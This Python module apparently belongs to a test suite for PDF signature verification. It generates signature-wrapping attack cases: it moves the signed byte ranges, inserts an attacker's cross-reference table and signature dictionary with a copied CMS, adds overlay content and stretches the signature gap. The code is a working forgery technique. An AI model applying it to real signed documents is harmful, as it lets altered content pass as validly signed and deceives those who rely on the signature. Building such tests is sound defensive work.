"""Class 4, signature wrapping: the covered bytes stay, but move apart; what stands between them is the attacker's."""

from . import _pdf
from ._case import FORMAT, Case, attack
from ._pdf import stream
from .incremental_saving import OVERLAY


def wrapped(base, copies_contents=True, overlay=True, keep_old=False):
    """The second covered part at a later place. Its startxref still says X, and at X stands the attacker's table, which leads to a signature
    dictionary of his with the moved range and a copy of the CMS."""
    data, seal = base.data, base.seal
    _, gap_start, gap_end, tail = seal.numbers(data)
    offset_of_table = _pdf.startxref(data)
    pdf = base.pdf
    assert offset_of_table > gap_end and gap_end + tail == len(data)
    body = data[seal.at : seal.end].split(b"obj", 1)[1].strip()
    own = {}
    if overlay:
        number = pdf.find(rb"/Length \d+.*stream") if base.is_licence else 4
        own[number] = stream(OVERLAY)
    room = 0
    for _ in range(3):
        # The new dictionary needs the place where the second part will begin, which depends on its own length.
        moved_to = offset_of_table + room
        numbers = b"[0 %d %d %d]" % (gap_start, moved_to, tail)
        old_range = data[seal.range_start : seal.range_end]
        if keep_old:
            dictionary = body
        else:
            dictionary = body.replace(old_range, numbers)
            if not copies_contents:
                dictionary = dictionary.replace(data[seal.gap_start : seal.gap_end], b"<00>")
        start = gap_end if copies_contents else gap_start
        between = data[gap_start:gap_end] + b"/Z()>>\nendobj\n"
        offsets = {}
        for number, content in {seal.number: dictionary, **own}.items():
            offsets[number] = (gap_start + len(between), 0)
            between += b"%d 0 obj\n%s\nendobj\n" % (number, content)
        if gap_start + len(between) > offset_of_table:
            # The table must begin at X: whatever does not fit before it goes behind it.
            behind = True
        else:
            behind = False
            between = between.ljust(offset_of_table - gap_start)
        if behind:
            between = (data[gap_start:gap_end] + b"/Z()>>\nendobj\n").ljust(offset_of_table - gap_start)
            objects_at = offset_of_table + 4000
            offsets, later = {}, b""
            for number, content in {seal.number: dictionary, **own}.items():
                offsets[number] = (objects_at + len(later), 0)
                later += b"%d 0 obj\n%s\nendobj\n" % (number, content)
        all_offsets = {n: (at, 0) for n, at in pdf.entries.items() if isinstance(at, int) and at < gap_start} | offsets
        section = _pdf.table(all_offsets) + b"trailer\n<</Size %d%s>>\n" % (pdf.size, _pdf.kept(pdf.trailer))
        between += section
        if behind:
            between = between.ljust(objects_at - gap_start) + later
        room = gap_start + len(between) - offset_of_table
    del start
    return data[:gap_start] + between + data[gap_end:]


@attack(4, "seal-last table")
def moved(base):
    """The classic: own table, own dictionary with the moved range, copied /Contents."""
    yield Case("copied contents", wrapped(base), FORMAT)
    yield Case("copied contents, no other content", wrapped(base, overlay=False), FORMAT)
    yield Case("no contents", wrapped(base, copies_contents=False), FORMAT)
    yield Case("old range", wrapped(base, keep_old=True), FORMAT)


@attack(4, "seal-last")
def stretched(base):
    """The gap grows and holds more than the CMS."""
    data, seal = base.data, base.seal
    for name, more in {"spaces": b" " * 200, "objects": b"/Z()>>endobj 4 0 obj " + stream(OVERLAY) + b"endobj\n", "second contents": b"/Contents" + data[seal.gap_start : seal.gap_end]}.items():
        yield Case(name, data[: seal.gap_end] + more + data[seal.gap_end :], FORMAT)


@attack(4, "seal-last")
def other_offsets(base):
    """The numbers of the range follow the moved part; they are covered, so the digest tells if nothing else does."""
    data, seal = base.data, base.seal
    _, gap_start, gap_end, tail = seal.numbers(data)
    longer = data[: seal.gap_end] + b" " * 64 + data[seal.gap_end :]
    yield Case("range moved", _pdf.with_range(longer, [0, gap_start, gap_end + 64, tail], seal), FORMAT)
    before = data[: seal.gap_start] + b" " * 64 + data[seal.gap_start :]
    yield Case("spaces before the gap", _pdf.with_range(before, [0, gap_start, gap_end + 64, tail], seal), FORMAT)
